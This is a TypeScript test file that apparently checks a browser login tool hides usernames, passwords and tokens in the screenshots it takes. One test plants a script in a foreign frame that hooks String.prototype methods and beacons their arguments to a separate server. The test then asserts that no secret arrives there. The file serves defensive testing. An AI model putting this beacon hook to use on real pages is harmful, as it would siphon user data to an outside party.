import { expect } from 'vitest';
import type { Browser } from '../../helpers/login/browser.ts';
import { sendPage, serve } from '../lab/host.ts';
import { target } from '../lab/layout-host.ts';
import { loginPage } from '../lab/pages.ts';
import { test } from '../lab/walk.ts';

interface Typed {
  username: string;
  password: string;
  token: string;
}

// Of one width each, for a box tells how much it covers.
const first = { username: 'jan.jansen', password: 'Geh3im!wachtwoord', token: 'a1B2c3D4e5F6' };
const second = { username: 'piet@klaas', password: 'geen+idee&van<<<<', token: '4x2y9z1a3b7c' };

/** The picture of the page that is shown, not understood, after the login. */
async function pictureAfterLogin(
  browser: Browser,
  typed: Typed,
  page: (typed: Typed) => string,
): Promise<Buffer> {
  await using server = await serve({
    '/authorize': loginPage,
    '/login': (_request, response) => {
      const headers = { 'set-cookie': `s=${typed.token}-9z` };
      sendPage(
        response,
        `<!doctype html><title>Done</title><style>* { font-family: monospace }</style>${page(typed)}`,
        { headers },
      );
    },
  });
  const { screenshot, ended } = await browser.walk({
    authorizeUrl: `${server.base}/authorize`,
    targets: [target],
    user: typed,
    permission: 'allow',
  });
  expect(ended).toBe('stopped-at-page');
  return screenshot ?? expect.fail('no picture was taken');
}

const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;');
const asIs = (text: string) => `<p>${escaped(text)}</p>`;

// What looks the same whatever the secret is does not show it.
test.for<[string, (typed: Typed) => string]>([
  ['a user name in a text', ({ username }) => `<p>Hello ${username}, welcome</p>`],
  ['a password in a text', ({ password }) => asIs(`You typed ${password}.`)],
  ['a password in a field', ({ password }) => `<input value="${escaped(password)}">`],
  ['a user name in a field', ({ username }) => `<textarea>${username}</textarea>`],
  [
    'a field that a script fills again',
    ({ username }) =>
      `<input id="i" value="${username}"><script>setInterval(() => { i.value = '${username}' }, 5)</script>`,
  ],
  [
    'a text that a script puts back once',
    ({ username }) =>
      `<p id="p">Hello ${username}</p><script>
let left = 1;
new MutationObserver(() => { if (left-- > 0) p.textContent = 'Hello ${username}'; })
  .observe(p, { characterData: true, childList: true, subtree: true });</script>`,
  ],
  ['a code', ({ token }) => `<p>Your code is <code>${token}</code></p>`],
  ['a code in an address', ({ token }) => asIs(`https://app.example/cb?state=1&code=x${token}`)],
  ['a name in a button', ({ username }) => `<input type="reset" value="Not ${username}">`],
  ['a name in a placeholder', ({ username }) => `<input placeholder="${username}">`],
  ['a name in several elements', ({ username }) => `<p>${[...username].join('<wbr>')}</p>`],
  [
    'a name in a shadow root',
    ({ username }) =>
      `<x-y><template shadowrootmode="open"><p>Hello ${username}</p></template></x-y>`,
  ],
  ['a name in a frame', ({ username }) => `<iframe srcdoc="<p>Hello ${username}</p>"></iframe>`],
])('%s cannot be read', async ([, page], { browser }) => {
  // A frame that is late is not shown at all: such a picture is compared with one of its kind.
  const pictures: Buffer[] = [];
  const isPair = () =>
    pictures.some((one, at) => at % 2 === 0 && others(at).some((it) => one.equals(it)));
  const others = (at: number) => pictures.filter((_, place) => place % 2 !== at % 2);
  for (let attempt = 0; attempt < 3 && !isPair(); attempt++) {
    pictures.push(await pictureAfterLogin(browser, first, page));
    pictures.push(await pictureAfterLogin(browser, second, page));
  }

  expect(isPair()).toBe(true);
});

test("a stranger's frame is not told what to strike out", async ({ browser }) => {
  const hook = `<script>for (const name of ['includes', 'indexOf', 'split', 'replaceAll'])
    { const own = String.prototype[name]; String.prototype[name] = function (...given) {
      navigator.sendBeacon('/heard?' + encodeURIComponent(String(given[0])));
      return own.apply(this, given); }; } 'a'.includes('hooked');</script><p>Hello</p>`;
  await using stranger = await serve({ '/frame': hook, '/heard': '' });

  await pictureAfterLogin(browser, first, () => `<iframe src="${stranger.base}/frame"></iframe>`);

  const heard = decodeURIComponent(stranger.requests.join(' '));
  expect(heard).toContain('hooked');
  for (const secret of Object.values(first)) expect(heard).not.toContain(secret);
});

test('what is no secret stays readable', async ({ browser }) => {
  const one = await pictureAfterLogin(
    browser,
    first,
    () => '<p>The service rests on 2026-11-21.</p>',
  );
  const other = await pictureAfterLogin(
    browser,
    first,
    () => '<p>The service rests on 2026-11-22.</p>',
  );

  expect(one.equals(other)).toBe(false);
});
